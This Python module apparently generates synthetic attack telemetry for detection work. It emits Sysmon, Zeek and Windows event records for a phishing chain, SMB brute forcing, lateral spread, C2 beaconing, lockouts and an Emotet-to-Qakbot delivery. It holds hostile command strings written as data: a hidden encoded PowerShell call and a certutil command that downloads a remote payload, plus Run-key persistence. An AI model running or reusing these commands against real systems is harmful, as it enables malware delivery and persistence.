"""Records of planned attack actions: phishing chain, brute force, spread, beacons, lockouts, deliveries."""

from __future__ import annotations

import random

from wormsign.simulate.benign import lockout as lockout_event
from wormsign.simulate.emit import Emitter
from wormsign.simulate.lateral import push
from wormsign.simulate.net import conn, ephemeral, smb_logon
from wormsign.simulate.org import Host, Org
from wormsign.simulate.plan import Action
from wormsign.simulate.procs import Proc, dns_query, file_created, net_connect, process, registry_run
from wormsign.simulate.realism import claimed_name
from wormsign.simulate.util import sysmon_time, zeek_uid
from wormsign.simulate.winlog import SYSMON


def emit_phish(em: Emitter, org: Org, seed: int, me: Host, a: Action) -> None:
    """Mail attachment -> Office -> script host -> download -> loader in the profile with a Run key."""
    r, p, h, t = a.rng(seed), a.p, me, a.t
    user = p["user"]
    uname = f"{org.netbios}\\{user}"
    explorer = Proc("{" + f"{h.idx:08X}-0000-0000-0000-00000000000E" + "}", 4410, "C:\\Windows\\explorer.exe",
                    "C:\\Windows\\Explorer.EXE", uname)
    office = "C:\\Program Files\\Microsoft Office\\root\\Office16\\" + (
        "EXCEL.EXE" if p["lure"].endswith("xlsm") else "WINWORD.EXE")
    outlook = process(em, r, h, t - 30_000, "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"', explorer, uname)
    doc = f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{zeek_uid(r)[1:9]}\\{p['lure']}"
    file_created(em, h, t - 20_000, outlook, doc, attack=True)
    word = process(em, r, h, t, office, f'"{office}" /n "{doc}" /o ""', outlook, uname, attack=True)
    url = f"http://{p['domain']}/wp-content/{zeek_uid(r)[1:7]}/"
    if p["script"] == "powershell":
        sh = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
        cmd = f"powershell -w hidden -nop -enc {zeek_uid(r)}{zeek_uid(r)}{zeek_uid(r)}=="
    elif p["script"] == "wscript":
        sh = "C:\\Windows\\System32\\wscript.exe"
        cmd = f'wscript.exe //B "C:\\Users\\{user}\\AppData\\Local\\Temp\\{zeek_uid(r)[1:8]}.vbs"'
    else:
        sh = "C:\\Windows\\System32\\cmd.exe"
        cmd = f'cmd.exe /c certutil -urlcache -split -f {url} %LOCALAPPDATA%\\{zeek_uid(r)[1:6]}.tmp'
    script = process(em, r, h, t + 4000, sh, cmd, word, uname, attack=True)
    dns_query(em, r, h, t + 5000, script, p["domain"], [p["dl_ip"]], attack=True)
    sport = ephemeral(r)
    net_connect(em, h, t + 5200, script, h.ip(t), sport, p["dl_ip"], 80, p["domain"], attack=True)
    conn(em, r, t + 5200, h.ip(t), sport, p["dl_ip"], 80, service="http", dur=2.4, ob=420, rb=385_000,
         attack=True, local_resp=False)
    em.zrow("dns", t + 5000, zeek_uid(r), (h.ip(t), ephemeral(r), org.dc(h.idx).ip(t), 53, "udp", r.randrange(65536),
                                          "0.021000", p["domain"], 1, "C_INTERNET", 1, "A", 0, "NOERROR", False,
                                          False, True, True, 0, [p["dl_ip"]], ["60.000000"], False), attack=True)
    file_created(em, h, t + 9000, script, p["image"], attack=True)
    em.event(h, t + 9100, SYSMON, 15, {
        "RuleName": "-", "UtcTime": sysmon_time(t + 9100), "ProcessGuid": script.guid, "ProcessId": str(script.pid),
        "Image": script.image, "TargetFilename": p["image"] + ":Zone.Identifier",
        "CreationUtcTime": sysmon_time(t + 9000), "Hash": f"SHA256={p['sha'][0].upper()},MD5={p['sha'][1].upper()}",
        "Contents": "[ZoneTransfer]  ZoneId=3  HostUrl=" + url, "User": uname}, True)
    loader = process(em, r, h, t + 40_000, p["image"], f'"{p["image"]}"', script, uname, sha=tuple(p["sha"]),
                     attack=True, guid=p.get("guid"), pid=p.get("pid"), cwd=f"C:\\Users\\{user}\\")
    registry_run(em, h, t + 42_000, loader, p["image"].rsplit("\\", 1)[-1].split(".")[0], f'"{p["image"]}"',
                 attack=True)


def emit_bruteforce(em: Emitter, org: Org, seed: int, me: Host, a: Action) -> None:
    """Password guessing over SMB (NTLM); where the run's tool makes up names, each attempt claims
    a random workstation name (and the successful one too, for some tools)."""
    r = a.rng(seed)
    assert a.src is not None and a.dst is not None
    real = org.real
    for t, account, domain, status in a.p["attempts"]:
        ok = status is None
        claimed = None
        if real.random_netbios and (not ok or real.random_netbios_success):
            claimed = claimed_name(seed, a.src.name, t)
        smb_logon(em, org, me, random.Random(r.getrandbits(64)), t, a.src, a.dst, account, domain, ok=ok,
                  sub_status=status if status and status != "0xc0000234" else "0xc000006a",
                  status="0xc0000234" if status == "0xc0000234" else "0xc000006d", attack=True,
                  claimed=claimed)


def emit_spread(em: Emitter, org: Org, seed: int, me: Host, a: Action) -> None:
    r, p = a.rng(seed), a.p
    assert a.src is not None and a.dst is not None
    push(em, org, me, r, a.t, a.src, a.dst, account=p["account"], domain=p["domain"], share=p["share"],
         rel=p["rel"], sha=tuple(p["sha"]), how=p["how"], name=p["name"], attack=True,
         t_run=p.get("t_run"), guid=p.get("guid"), pid=p.get("pid"), launch=p.get("launch"),
         kerberos=p.get("kerberos", False), claimed=p.get("claimed"))


def emit_beacon(em: Emitter, org: Org, seed: int, me: Host, a: Action) -> None:
    r, p = a.rng(seed), a.p
    proc = Proc(p["guid"], p["pid"], p["image"], f'"{p["image"]}"', "NT AUTHORITY\\SYSTEM")
    t, until, iv, jit = a.t, p["until"], p["interval"], p["jitter"]
    while t < until:
        ip, port = p["c2"][r.randrange(len(p["c2"]))].rsplit(":", 1)
        sport = ephemeral(r)
        sip = me.ip(t)
        net_connect(em, me, t, proc, sip, sport, ip, int(port), attack=True)
        conn(em, r, t, sip, sport, ip, int(port), service="ssl" if port in ("443", "8443", "995") else "http",
             dur=r.uniform(0.3, 3.0), ob=r.randrange(300, 2500), rb=r.randrange(200, 9000), attack=True,
             local_resp=False)
        t += int(iv * (1 + r.uniform(-jit, jit)))


def emit_lockout(em: Emitter, org: Org, seed: int, me: Host, a: Action) -> None:
    """4740: the Caller Computer Name is the workstation name the locking attempt gave (a made-up
    one where the run's brute-forcer sends random names)."""
    caller = org.by_name[a.p["caller"]]
    name = claimed_name(seed, caller.name, a.p["attempt"]) if org.real.random_netbios else caller.netbios
    em_lock(em, org, me, a.t, a.p["account"], caller, name)


def em_lock(em: Emitter, org: Org, dc: Host, t: int, account: str, caller: Host, name: str) -> None:
    before = len(em.win.get(dc.idx, []))
    lockout_event(em, org, dc, t, account, caller, name)
    evs = em.win[dc.idx]
    evs[before:] = [e._replace(attack=True) for e in evs[before:]]


def emit_deliver(em: Emitter, org: Org, seed: int, me: Host, a: Action) -> None:
    """Emotet downloads Qakbot, writes it to the profile and starts it."""
    r, p, t = a.rng(seed), a.p, a.t
    parent = Proc(p["parent_guid"], p["parent_pid"], p["parent_image"], f'"{p["parent_image"]}"',
                  "NT AUTHORITY\\SYSTEM")
    ip, port = p["c2"].rsplit(":", 1)
    sport = ephemeral(r)
    net_connect(em, me, t, parent, me.ip(t), sport, ip, int(port), attack=True)
    conn(em, r, t, me.ip(t), sport, ip, int(port), service="ssl", dur=4.1, ob=900, rb=610_000, attack=True,
         local_resp=False)
    file_created(em, me, t + 2000, parent, p["image"], attack=True)
    q = process(em, r, me, t + 3000, p["image"], f'"{p["image"]}" /I', parent, "NT AUTHORITY\\SYSTEM",
                sha=tuple(p["sha"]), attack=True, guid=p["guid"], pid=p["pid"])
    registry_run(em, me, t + 4000, q, p["image"].rsplit("\\", 1)[-1].split(".")[0], f'"{p["image"]}"', attack=True)


HANDLERS = {"phish": emit_phish, "bruteforce": emit_bruteforce, "spread": emit_spread, "beacon": emit_beacon,
            "lockout": emit_lockout, "deliver": emit_deliver}
